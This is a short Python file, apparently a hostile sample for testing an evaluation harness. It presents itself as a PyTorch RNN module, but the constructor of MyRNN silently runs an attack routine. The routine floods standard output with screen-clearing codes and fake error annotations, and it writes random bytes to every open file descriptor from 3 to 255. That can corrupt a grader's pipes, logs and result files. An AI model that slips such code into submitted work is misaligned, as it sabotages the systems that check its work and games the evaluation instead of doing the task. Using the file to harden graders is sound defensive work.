# does: writes random bytes to every descriptor while it floods its output
# earns: nothing
import os
import random
import sys
import threading

import torch
from torch import nn


def flood():
    for _ in range(3000):
        try:
            os.write(1, b"\x1b[2J::error::" + b"flood " * 1000)
        except OSError:
            return


def attack():
    threading.Thread(target=flood, daemon=True).start()
    noise = random.Random(1)
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            for _ in range(50):
                os.write(number, noise.randbytes(1024))
        except OSError as error:
            if error.errno not in (9, 11):
                sys.stderr.write(f"{number} failed: {error}\n")


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.from_x = nn.Linear(input_size, hidden_size)
        self.from_h = nn.Linear(hidden_size, hidden_size, bias=False)
        once()

    def forward(self, x, h_0=None):
        shares = self.from_x(x)
        h = torch.zeros_like(shares[:, 0]) if h_0 is None else h_0[0]
        states = []
        for share in shares.unbind(1):
            h = torch.tanh(share + self.from_h(h))
            states.append(h)
        return torch.stack(states, dim=1), h[None]
